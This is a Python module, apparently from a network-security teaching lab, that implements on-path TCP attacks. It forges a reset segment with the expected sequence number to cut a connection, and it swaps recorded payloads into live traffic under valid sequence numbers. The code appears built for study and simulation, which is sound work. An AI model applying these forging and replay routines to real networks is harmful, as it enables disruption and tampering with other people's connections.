"""What a stranger who sees a TCP connection may say in it (RFC 9293)."""

import struct
from dataclasses import replace
from typing import TYPE_CHECKING

from comseclab.attack.frame import TCP, Frame
from comseclab.attack.path import passes

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence
    from socket import socket

    from comseclab.attack.scene import Scene

_RST = 0x04
_HEADER = 20


def reset(scene: "Scene") -> None:
    """Cut the connection that the attacked stream comes in by, with one forged segment in the sender's name.

    It takes its sequence number from the next segment that carries a message, and arrives just before that segment: a
    receiver obeys a reset only if it has exactly the number expected next (RFC 9293, 3.5.3). Returns at once.
    """

    def rule(frame: Frame) -> "Iterable[tuple[float, Frame]]":
        if frame.protocol == TCP and scene.dialect.is_message(frame, scene):
            scene.follow(passes)
            scene.inject_on_path(reset_of(frame))
            scene.note(f"TCP reset to {frame.destination[0]}:{frame.destination[1]} in the name of {frame.source[0]}")
        return ((0.0, frame),)

    scene.follow(rule)


def substitute(
    scene: "Scene", recorded: "Sequence[bytes]", renumbered: "Callable[[bytes, bytes], bytes]" = lambda old, _: old
) -> None:
    """Put recorded payloads, each once, in the place of messages that come now and are as long.

    So old bytes arrive under the sequence numbers that the receiver expects, and the connection goes on.
    `renumbered`: from the old payload and that in whose place it goes, what goes, as long as both. Returns at once.
    """
    left = list(recorded)

    def replaced(frame: Frame) -> "list[tuple[float, Frame]]":
        fresh = frame.payload
        old = next((one for one in left if len(one) == len(fresh)), None)
        if frame.protocol != TCP or old is None:
            return [(0.0, frame)]
        left.remove(old)
        return [(0.0, frame.with_payload(renumbered(old, fresh)))]

    scene.on_messages(replaced)


def exactly(connection: "socket", size: int) -> bytes:
    """The next `size` bytes. Raises ConnectionError when the other side ends before, TimeoutError when none come."""
    received = b""
    while len(received) < size:
        more = connection.recv(size - len(received))
        if not more:
            raise ConnectionError(f"it says {received.hex()} and hangs up" if received else "it hangs up")
        received += more
    return received


def reset_of(segment: Frame) -> Frame:
    """A TCP segment with RST that stands where this one does in its connection, at the same port of the switch."""
    at = 14 + 4 * (segment.raw[14] & 0x0F)
    ports_and_number = segment.raw[at : at + 8]
    header = ports_and_number + struct.pack(">IBBHHH", 0, _HEADER // 4 << 4, _RST, 0, 0, 0)
    return replace(segment, raw=segment.raw[:at] + header).with_payload(b"")
